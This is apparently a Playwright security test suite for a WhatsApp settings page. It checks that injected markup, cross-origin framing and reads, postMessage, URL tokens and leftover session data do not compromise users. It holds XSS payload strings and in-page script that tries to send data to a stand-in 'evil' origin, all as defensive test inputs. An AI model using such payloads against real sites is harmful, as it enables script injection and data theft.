"""What hostile pages, hostile answers and the next person at the machine can get from the settings page."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.system.browser.conftest import OpenPage, polls, until
from tests.system.browser.fakes import PAGE, Site, Supabase, attempt, iso, state
from tests.system.browser.parts import qr_picture
from tests.system.browser.steps import QR, assert_only_marks, sign_in

HOSTILE = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\'"><a href=javascript:hacked=1>'


@pytest.fixture
def evil() -> Iterator[Any]:
    """Another origin on the same machine.

    ``evil.html`` is its page, and ``evil.asked`` lists the requests that it got.
    """

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.asked.append((self.path, dict(self.headers)))  # type: ignore[attr-defined]
            body = server.html.encode()  # type: ignore[attr-defined]
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    server: Any = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    server.html, server.asked = "", []
    # Another port is another origin on the same site. A protection against it protects against other sites too.
    server.origin = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


# ── hostile answers ──


@pytest.mark.parametrize("status", ["error", "connected", "waiting_qr", "disconnected"])
def test_hostile_values_of_a_status_run_nothing(site: Site, open_page: OpenPage, status: str) -> None:
    lies = {"phoneNumber": HOSTILE, "messagesSent": HOSTILE, "messagesReceived": HOSTILE, "qrExpiresAt": HOSTILE}
    lies |= {"error": {"code": HOSTILE, "message": HOSTILE}}
    site.status = state(status, **lies) | {"attempt": attempt(site.now(), 60) | {"id": HOSTILE, "deadline": HOSTILE}}
    if status == "waiting_qr":
        site.status |= {"qr": QR, "qrExpiresAt": iso(site.now())}
    page = open_page(site.url)
    expect(page.get_by_text("Loading…").last).to_be_hidden()
    polls(page, site)
    assert page.evaluate("window.hacked") is None
    assert page.locator("main").locator("a, script, iframe, img[src=x]").count() == 0


def test_an_unknown_status_shows_an_error_and_runs_nothing(site: Site, open_page: OpenPage) -> None:
    site.status = state(HOSTILE)
    page = open_page(site.url)
    expect(page.get_by_role("heading", name="WhatsApp is not connected")).to_be_visible()
    assert page.evaluate("window.hacked") is None


def test_an_injected_script_neither_runs_nor_sends_data(site: Site, supabase: Supabase, evil: Any, bare: Page) -> None:
    """The last protection: the policy refuses markup and inline code, and allows no request to another origin."""
    bare.goto(site.url)
    expect(bare.get_by_role("heading", name="Sign in")).to_be_visible()
    refused = bare.evaluate(
        """async (evil) => {
          const out = {};
          const t = async (name, work) => {
            try { await work(); out[name] = "done"; } catch (error) { out[name] = error.name; }
          };
          await t("markup", () => { document.body.innerHTML += "<b>x</b>"; });
          await t("policy", () => trustedTypes.createPolicy("default", { createHTML: (html) => html }));
          await t("fetch", () => fetch(evil + "/told"));
          await t("beacon", () => { if (!navigator.sendBeacon(evil + "/told", "x")) throw new TypeError(); });
          await t("worker", () => new Worker("data:text/javascript,0"));
          const script = document.createElement("script");
          await t("text", () => { script.textContent = "window.hacked = 1"; document.body.append(script); });
          const image = document.createElement("img");
          await t("image", () => new Promise((done, fail) => {
            image.onload = done; image.onerror = () => fail(new TypeError()); image.src = evil + "/told";
          }));
          const frame = document.createElement("iframe");
          frame.src = evil + "/told";
          document.body.append(frame);
          const handler = document.createElement("i");
          await t("handler", () => handler.setAttribute("onclick", "window.hacked = 1"));
          await new Promise((done) => setTimeout(done, 300));
          return out;
        }""",
        evil.origin,
    )
    assert {name for name, how in refused.items() if how == "done"} <= {
        "beacon"
    }  # Chromium queues it, and then refuses it
    assert refused.keys() == {"markup", "policy", "fetch", "beacon", "worker", "text", "image", "handler"}
    assert bare.evaluate("window.hacked") is None
    assert evil.asked == []


# ── other pages ──


@pytest.mark.parametrize(("frames", "shown"), [("none", False), ("self", False), ("", False), ("EVIL", True)])
def test_another_origin_frames_the_page_only_when_allowed(
    site: Site, evil: Any, bare: Page, monkeypatch: pytest.MonkeyPatch, frames: str, shown: bool
) -> None:
    monkeypatch.setenv("FRAME_ANCESTORS", frames.replace("EVIL", evil.origin))
    evil.html = f'<iframe src="{site.url}" width="600" height="600"></iframe>'
    bare.goto(evil.origin)
    frame = bare.frames[1]
    if shown:
        expect(frame.get_by_role("button", name="Connect WhatsApp")).to_be_visible()
    else:
        until(bare, lambda: frame.url.startswith("chrome-error:"))  # Chromium shows an error page of its own instead
        assert frame.get_by_role("button", name="Connect WhatsApp").count() == 0
    assert any(request.path.startswith("/api/") for request in site.requests) is shown


@pytest.mark.parametrize("asked", [{}, {"headers": {"Authorization": "Bearer development"}}, {"mode": "no-cors"}])
def test_another_origin_can_read_neither_page_nor_api(site: Site, evil: Any, bare: Page, asked: dict[str, Any]) -> None:
    site.waiting(QR)
    bare.goto(evil.origin)
    read = bare.evaluate(
        """async ([origin, asked]) => {
          const out = [];
          for (const path of ["/home/settings/whatsapp", "/home/settings/whatsapp/config.json",
                              "/api/whatsapp/status", "/api/whatsapp/qr"]) {
            try { out.push(await (await fetch(origin + path, asked)).text()); } catch (error) { out.push(""); }
          }
          return out;
        }""",
        [site.origin, asked],
    )
    assert read == [""] * 4


def test_a_window_that_opens_the_page_cannot_reach_it(site: Site, evil: Any, bare: Page) -> None:
    """Cross-Origin-Opener-Policy separates the two windows, so neither can send messages to the other."""
    bare.goto(evil.origin)
    with bare.context.expect_page() as opening:
        bare.evaluate("(url) => { window.opened = window.open(url); }", site.url)
    opened = opening.value
    expect(opened.get_by_role("button", name="Connect WhatsApp")).to_be_visible()
    assert opened.evaluate("window.opener") is None
    assert bare.evaluate("window.opened.closed") is True
    assert "referer" not in next(one for one in site.requests if one.path.startswith(PAGE + "/")).headers


def test_messages_from_other_windows_change_nothing(site: Site, open_page: OpenPage) -> None:
    page = open_page(site.url)
    expect(page.get_by_role("button", name="Connect WhatsApp")).to_be_visible()
    before = page.locator("main").inner_html()
    for message in ({"type": "token", "accessToken": "evil"}, {"status": "connected"}, HOSTILE):
        page.evaluate("(message) => postMessage(message, '*')", message)
    polls(page, site)
    assert page.locator("main").inner_html() == before
    assert {one.headers["authorization"] for one in site.requests if one.path.startswith("/api/")} == {
        "Bearer development"
    }


@pytest.mark.parametrize(
    "address",
    [
        "?next={evil}&redirect={evil}&returnTo={evil}&supabaseUrl={evil}&api={evil}",
        "#access_token=evil&refresh_token=evil&type=recovery",
        "?lang=%3Cscript%3Ehacked=1%3C/script%3E#%3Cimg%20src=x%20onerror=hacked=1%3E",
    ],
)
def test_the_page_ignores_tokens_and_urls_in_its_address(
    site: Site, supabase: Supabase, evil: Any, open_page: OpenPage, address: str
) -> None:
    page = open_page(site.url + address.format(evil=evil.origin))
    sign_in(page)
    expect(page.get_by_role("button", name="Connect WhatsApp")).to_be_visible()
    assert page.url.startswith(site.url)
    assert page.evaluate("window.hacked") is None
    assert evil.asked == []
    used = {one.headers["authorization"] for one in site.requests if one.path.startswith("/api/")}
    assert used == {"Bearer access-1"}


# ── the next person at this machine ──


def test_sign_out_leaves_nothing_for_the_back_button(site: Site, supabase: Supabase, open_page: OpenPage) -> None:
    page = open_page(site.url)
    sign_in(page)
    site.waiting(QR)
    expect(qr_picture(page)).to_be_visible()
    picture = qr_picture(page).get_attribute("src")
    page.get_by_role("button", name="Sign out").click()
    nothing_left(page, picture)

    page.goto(site.url + "/icon.svg")
    page.go_back()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    nothing_left(page, picture)


def nothing_left(page: Page, picture: str | None) -> None:
    expect(qr_picture(page)).to_be_hidden()
    assert page.evaluate("[sessionStorage.length, document.cookie]") == [0, ""]
    assert_only_marks(page)
    assert page.evaluate("caches.keys()") == []
    # The policy forbids `fetch` of a blob, but an image may load one.
    loads = """(url) => new Promise((done) => {
      const image = new Image();
      image.onload = () => done(true);
      image.onerror = () => done(false);
      image.src = url;
    })"""
    assert page.evaluate(loads, picture) is False
    # A screen reader and the developer tools read the whole document.
    assert "ana@example.com" not in page.content()


def test_status_and_qr_are_in_no_cache(site: Site, supabase: Supabase, open_page: OpenPage) -> None:
    """Even a request that accepts only a cached answer finds none."""
    page = open_page(site.url)
    sign_in(page)
    site.waiting(QR)
    expect(qr_picture(page)).to_be_visible()
    for path in ("/api/whatsapp/status", "/api/whatsapp/qr"):
        cached = page.evaluate(
            "(path) => fetch(path, { cache: 'only-if-cached', mode: 'same-origin' }).then(() => true, () => false)",
            path,
        )
        assert cached is False


def test_the_page_does_not_keep_the_password(site: Site, supabase: Supabase, open_page: OpenPage) -> None:
    page = open_page(site.url)
    assert page.get_by_label("Password").get_attribute("autocomplete") == "current-password"
    assert page.get_by_label("Password").get_attribute("type") == "password"
    # The fields have no names, so the browser itself would send an empty POST.
    form = "({ form }) => ({ method: form.method, names: [...new FormData(form).keys()] })"
    assert page.get_by_label("Password").evaluate(form) == {"method": "post", "names": []}
    sign_in(page)
    expect(page.get_by_role("button", name="Connect WhatsApp")).to_be_visible()
    assert page.get_by_label("Password").input_value() == ""
    assert "correct horse" not in page.evaluate("JSON.stringify({...sessionStorage})")
